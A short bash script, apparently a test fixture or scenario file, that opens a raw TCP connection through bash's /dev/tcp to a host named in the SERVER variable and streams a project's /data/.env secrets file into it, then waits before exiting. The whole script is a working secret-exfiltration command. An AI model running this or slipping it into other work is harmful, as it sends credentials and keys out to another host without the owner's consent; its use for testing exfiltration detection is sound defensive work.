# what: a project's .env goes into a connection of bash's own
# server: sink
# volume: .env
echo begun
exec 3<> "/dev/tcp/${SERVER%:*}/${SERVER#*:}" || exit 3
cat /data/.env >&3
sleep "${LINGER:-20}"
echo done
